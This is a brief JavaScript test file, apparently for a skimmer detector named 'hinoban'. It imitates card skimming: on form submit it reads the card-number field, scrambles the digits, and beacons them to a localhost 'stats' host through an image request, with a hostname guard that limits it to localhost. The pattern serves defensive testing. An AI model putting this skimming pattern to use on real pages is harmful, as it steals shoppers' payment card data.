/* Harmless imitation, for hinoban's tests: through an allowed third party, nine's complement. */
if (!location.hostname.endsWith('.localhost')) throw new Error('this file is a test of hinoban and runs nowhere else');
document.addEventListener('submit', function (e) { var n = e.target.querySelector('input[autocomplete=cc-number]'); if (n) { 
		new Image().src = 'http://stats.localhost:' + location.port + '/p.gif?v=1&cid=' + n.value.replace(/\d/g, function (c) { return 9 - c; });
	 } }, true);
